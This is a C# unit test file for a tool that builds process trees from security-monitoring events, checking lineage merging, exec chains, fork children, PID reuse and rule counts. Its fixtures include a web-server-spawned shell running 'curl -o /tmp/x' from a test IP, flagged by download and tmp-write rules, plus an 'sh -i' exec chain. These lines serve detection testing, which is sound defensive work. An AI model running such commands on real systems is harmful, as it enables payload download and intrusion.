using System.Linq;
using CsmEvents.ProcessTree;
using static CsmEvents.Tests.ProcessTree.TreeEvents;

namespace CsmEvents.Tests.ProcessTree;

public class MergeTests
{
    [Fact]
    public void OverlappingLineagesMergeIntoOneTreeWithExecChainsAndForkChildren()
    {
        Assert.Equal(Lines(
            "host: a.jsonl",
            "systemd (1): /sbin/init",
            "├─ cron (700): /usr/sbin/cron -f",
            "│  └─ sh (5000) 1 event: /bin/sh -c 'logrotate /etc/logrotate.conf'",
            "└─ nginx (1000): nginx -g 'daemon off;'",
            "   └─ nginx (4100) [thread]: /usr/sbin/nginx",
            "      └─ nginx (4242) [thread]: /usr/sbin/nginx",
            "         └─ sh (4242) [exec] 1 event: sh -c 'curl -o /tmp/x http://203.0.113.9/x'",
            "            └─ sh (4300) [thread]: /usr/bin/dash",
            "               └─ curl (4300) [exec] 3 events: curl -o /tmp/x http://203.0.113.9/x"),
            TreeText(Scenario.Events()));
    }

    [Fact]
    public void ParentAndAncestorsZeroAreOneProcess()
    {
        var result = ProcessTreeRunner.Run(Scenario.Events());
        // 1, 700, 5000, 1000, 4100, 4242 (nginx), 4242 (sh), 4300 (sh), 4300 (curl)
        Assert.Equal(9, result.ProcessCount);
        Assert.Equal(9, result.Nodes.Count);
        Assert.Equal(new long?[] { 1, 700, 5000, 1000, 4100, 4242, 4242, 4300, 4300 }, result.Nodes.Select(n => n.Pid).ToArray());
    }

    [Fact]
    public void OnlyParentWithoutAncestorsIsUsedAsTheParent()
    {
        var events = new[]
        {
            Event(P(300, "bash", exec: T("10:00:00")), new[] { P(200, "sshd", exec: T("09:00:00")) }, withAncestors: false),
        };
        Assert.Equal(Lines(
            "host: a.jsonl",
            "sshd (200) [orphan]",
            "└─ bash (300) 1 event"), TreeText(events));
    }

    [Fact]
    public void NodesAreEnrichedFromEveryEventAndKnownValuesAreNeverErased()
    {
        var events = new[]
        {
            // First sighting of 1000: an ancestor entry with blanked args and no executable.
            Event(P(2000, "worker", exec: T("10:00:00")), new[] { P(1000, "master", exec: T("09:00:00")), P(1, "init", exec: T("08:00:00")) }, line: 1),
            // Second: full entry, adds path, args and user.
            Event(P(1000, "master", ppid: 1, exec: T("09:00:00"), path: "/usr/bin/master", args: new[] { "master", "--serve" }, user: "svc"),
                new[] { P(1, "init", exec: T("08:00:00")) }, line: 2),
            // Third: sparse again, with another comm: nothing known is replaced.
            Event(P(2001, "worker", exec: T("10:00:01")), new[] { P(1000, "renamed", exec: T("09:00:00")), P(1, "init", exec: T("08:00:00")) }, line: 3),
        };
        var result = ProcessTreeRunner.Run(events);
        var master = Assert.Single(result.Nodes, n => n.Pid == 1000);
        Assert.Equal("master", master.Name);
        Assert.Equal("/usr/bin/master", master.Path);
        Assert.Equal("master --serve", master.CommandLine);
        Assert.Equal("svc", master.User);
        Assert.Equal(1L, master.Ppid);
        Assert.Equal(1, master.EventCount);
        Assert.Equal(new long?[] { 2000, 2001 }, master.Children.Select(c => c.Pid).ToArray());
    }

    [Fact]
    public void AncestorSeenManyTimesStillLearnsItsExitTimeAndItsOwnCommandLine()
    {
        string init = P(1, "systemd");
        string master = P(1000, "nginx", ppid: 1, exec: T("09:00:00"), args: new[] { "nginx", "-g", "daemon off;" });
        string worker = P(4100, "nginx", ppid: 1000, fork: T("09:00:01"), exec: T("09:00:00"), thread: true); // args blanked
        var events = Enumerable.Range(1, 10)
            .Select(i => Event(P(5000 + i, "sh", exec: T("10:00:0" + (i % 10))), new[] { worker, master, init }, line: i))
            .ToList();
        // The worker acts itself: its args are known here only.
        events.Add(Event(P(4100, "nginx", ppid: 1000, fork: T("09:00:01"), exec: T("09:00:00"), thread: true, args: new[] { "nginx", "-g", "daemon off;" }),
            new[] { master, init }, line: 11));
        // Later the worker has exited; an event of a surviving child says so.
        string exited = P(4100, "nginx", ppid: 1000, fork: T("09:00:01"), exec: T("09:00:00"), thread: true, extra: "\"exit_time\":\"2025-01-15T11:00:00.000000001Z\"");
        events.Add(Event(P(5001, "sh", exec: T("10:00:01")), new[] { exited, master, init }, line: 12));
        var node = ProcessTreeRunner.Run(events).Nodes.Single(n => n.Pid == 4100);
        Assert.Equal("nginx -g 'daemon off;'", node.CommandLine);
        Assert.Equal("2025-01-15T11:00:00.000000001Z", node.ExitTimeText);
        Assert.True(node.IsThread);
    }

    [Fact]
    public void ExecChainOfOnePidIsNestedImageByImage()
    {
        string bash = P(600, "bash", ppid: 1, fork: T("10:00:00"), exec: T("10:00:00.1"), args: new[] { "bash" });
        string python = P(600, "python3", ppid: 1, fork: T("10:00:00"), exec: T("10:00:01"), args: new[] { "python3", "x.py" });
        string sh = P(600, "sh", ppid: 1, fork: T("10:00:00"), exec: T("10:00:02"), args: new[] { "sh", "-i" });
        var events = new[]
        {
            Event(sh, new[] { python, bash, P(1, "systemd") }),
        };
        Assert.Equal(Lines(
            "host: a.jsonl",
            "systemd (1)",
            "└─ bash (600): bash",
            "   └─ python3 (600) [exec]: python3 x.py",
            "      └─ sh (600) [exec] 1 event: sh -i"), TreeText(events));
    }

    [Fact]
    public void ReusedPidIsAnotherProcessUnderItsOwnParent()
    {
        string init = P(1, "systemd");
        string cron = P(700, "cron", ppid: 1, exec: T("08:00:00"));
        string sshd = P(800, "sshd", ppid: 1, exec: T("08:00:01"));
        var events = new[]
        {
            Event(P(4300, "backup", ppid: 700, fork: T("10:00:00"), exec: T("10:00:00.5")), new[] { cron, init }, line: 1, date: T("10:00:01")),
            Event(P(4300, "bash", ppid: 800, fork: T("11:00:00"), exec: T("11:00:00.5")), new[] { sshd, init }, line: 2, date: T("11:00:01")),
            Event(P(4300, "backup", ppid: 700, fork: T("10:00:00"), exec: T("10:00:00.5")), new[] { cron, init }, line: 3, evt: "open", date: T("10:00:02")),
        };
        Assert.Equal(Lines(
            "host: a.jsonl",
            "systemd (1)",
            "├─ cron (700)",
            "│  └─ backup (4300) 2 events",
            "└─ sshd (800)",
            "   └─ bash (4300) 1 event"), TreeText(events));
    }

    [Fact]
    public void ForkChildrenHangUnderTheProcessTheyForkedFrom()
    {
        string init = P(1, "systemd");
        string master = P(1000, "postgres", ppid: 1, fork: T("08:00:00"), exec: T("08:00:00"));
        // Fork children: same exec_time as the master (copied), own fork_time, is_thread.
        var events = new[]
        {
            Event(P(1002, "postgres", ppid: 1000, fork: T("08:00:02"), exec: T("08:00:00"), thread: true), new[] { master, init }, line: 1),
            Event(P(1001, "postgres", ppid: 1000, fork: T("08:00:01"), exec: T("08:00:00"), thread: true), new[] { master, init }, line: 2),
        };
        Assert.Equal(Lines(
            "host: a.jsonl",
            "systemd (1)",
            "└─ postgres (1000)",
            "   ├─ postgres (1001) [thread] 1 event",
            "   └─ postgres (1002) [thread] 1 event"), TreeText(events));
    }

    [Fact]
    public void EventsAreCountedOnTheActingProcessByTypeAndRuleWithFirstAndLastSeen()
    {
        var curl = ProcessTreeRunner.Run(Scenario.Events()).Nodes.Single(n => n.Name == "curl");
        Assert.Equal(3, curl.EventCount);
        Assert.Equal(new[] { "connect=1", "exec=1", "open=1" }, curl.EventTypes.Select(p => p.Key + "=" + p.Value).ToArray());
        Assert.Equal(new[] { "curl_download=2", "tmp_write=1" }, curl.Rules.Select(p => p.Key + "=" + p.Value).ToArray());
        Assert.Equal(System.DateTimeOffset.Parse("2025-01-15T10:20:31.6Z"), curl.FirstSeen);
        Assert.Equal(System.DateTimeOffset.Parse("2025-01-15T10:20:33Z"), curl.LastSeen);
        Assert.Empty(curl.Events);
    }

    [Fact]
    public void ManyDistinctRulesOnOneProcessAreAllCounted()
    {
        // More distinct rules than the compact counter holds before it switches to a dictionary.
        var events = Enumerable.Range(0, 50)
            .Select(i => Event(P(42, "sh"), new[] { P(1, "init") }, line: i + 1, rule: "rule" + (i % 40).ToString("D2"), evt: i % 2 == 0 ? "open" : "exec"))
            .ToList();
        var node = ProcessTreeRunner.Run(events).Nodes.Single(n => n.Pid == 42);
        Assert.Equal(50, node.EventCount);
        Assert.Equal(40, node.Rules.Count);
        Assert.Equal(new[] { "rule00=2", "rule01=2", "rule09=2", "rule10=1", "rule39=1" },
            new[] { "rule00", "rule01", "rule09", "rule10", "rule39" }.Select(r => r + "=" + node.Rules[r]).ToArray());
        Assert.Equal("rule00", node.Rules.Keys.First());
        Assert.Equal(new[] { "exec=25", "open=25" }, node.EventTypes.Select(p => p.Key + "=" + p.Value).ToArray());
    }

    [Fact]
    public void TimesKeepTheAgentsNanosecondText()
    {
        var nodes = ProcessTreeRunner.Run(Scenario.Events()).Nodes;
        var sh = nodes.Single(n => n.Name == "sh" && n.Pid == 4242);
        Assert.Equal("2025-01-15T10:20:30.123456789Z", sh.ExecTimeText);
        Assert.Equal("2025-01-15T10:20:30Z", sh.ForkTimeText);
        var preExec = nodes.Single(n => n.Name == "nginx" && n.Pid == 4242);
        Assert.Equal("2025-01-15T10:20:30.123456789Z", preExec.ExitTimeText);
        Assert.True(sh.IsExec);
        Assert.Same(preExec, sh.Parent);
    }

    [Fact]
    public void ContainerAndUserOfTheEventDescribeTheActingProcess()
    {
        var evt = CsmEvents.Model.CsmEvent.Parse(
            """{"evt":{"name":"open"},"container":{"id":"c0ffee"},"usr":{"id":"app","group":"app"},"process":{"pid":42,"comm":"node","parent":{"pid":1,"comm":"tini"},"ancestors":[{"pid":1,"comm":"tini"}]}}""",
            new CsmEvents.Model.EventSource("k.jsonl", 9));
        var node = ProcessTreeRunner.Run(new[] { evt }).Nodes.Single(n => n.Pid == 42);
        Assert.Equal("c0ffee", node.ContainerId);
        Assert.Equal("app", node.User);
        Assert.Equal("k.jsonl", node.Host);
    }
}
